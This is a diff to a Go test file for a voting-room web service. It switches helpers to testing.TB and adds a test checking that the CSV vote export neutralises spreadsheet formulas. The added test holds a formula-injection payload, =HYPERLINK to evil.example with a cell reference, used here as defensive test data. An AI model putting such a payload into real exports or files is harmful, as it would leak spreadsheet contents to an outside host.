@@ -18,7 +18,7 @@ import (
 
 // attendee is a member of a room, as a bot would be one: by the contract alone.
 type attendee struct {
-	t    *testing.T
+	t    testing.TB
 	conn *websocket.Conn
 	id   int
 	room struct {
@@ -68,7 +68,7 @@ type roomFrame struct {
 	Set json.RawMessage
 }
 
-func (s site) visit(t *testing.T, code, lang string, headers http.Header) *attendee {
+func (s site) visit(t testing.TB, code, lang string, headers http.Header) *attendee {
 	t.Helper()
 	if headers == nil {
 		headers = http.Header{}
@@ -179,7 +179,7 @@ func (v *attendee) closed() int {
 	}
 }
 
-func (s site) makeRoom(t *testing.T, form url.Values) (code, secret string) {
+func (s site) makeRoom(t testing.TB, form url.Values) (code, secret string) {
 	t.Helper()
 	res, body := s.do(t, "POST", "/rooms", form, "Accept", "application/json")
 	var made struct{ Code, Secret string }
@@ -549,5 +549,25 @@ func TestWhatNoRoomIsMadeOf(t *testing.T) {
 	res, _ := s.do(t, "POST", "/rooms", url.Values{"example": {"two-threads"}})
 	if at := res.Header.Get("Location"); res.StatusCode != http.StatusSeeOther || !strings.HasSuffix(at, "/host") || len(res.Cookies()) == 0 || !res.Cookies()[0].HttpOnly {
 		t.Errorf("a browser is led to %q: %d, cookies %v", at, res.StatusCode, res.Cookies())
+	}
+}
+
+// A title that a link brings along is no formula in the host's spreadsheet.
+func TestVotesHaveNoFormulas(t *testing.T) {
+	s := open(t, nil)
+	sc := parsed(t, twoText)
+	sc.Title = `=HYPERLINK("http://evil.example/"&A1,"click")`
+	text, err := link.Encode(link.State{Scenario: sc})
+	if err != nil {
+		t.Fatal(err)
+	}
+	code, secret := s.makeRoom(t, url.Values{"link": {text}})
+	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
+	voter := s.visit(t, code, "en", nil).join("audience", nil)
+	host.must(object{"do": "ask", "kind": "predict"})
+	voter.must(object{"do": "vote", "option": 0})
+	_, votes := s.do(t, "GET", "/room/"+code+"/votes.csv", nil, "Authorization", "Bearer "+secret)
+	if strings.Count(votes, "\n") != 2 || strings.Contains(votes, `"=HYPER`) || !strings.Contains(votes, `"'=HYPER`) {
+		t.Errorf("votes: %s", votes)
 	}
 }
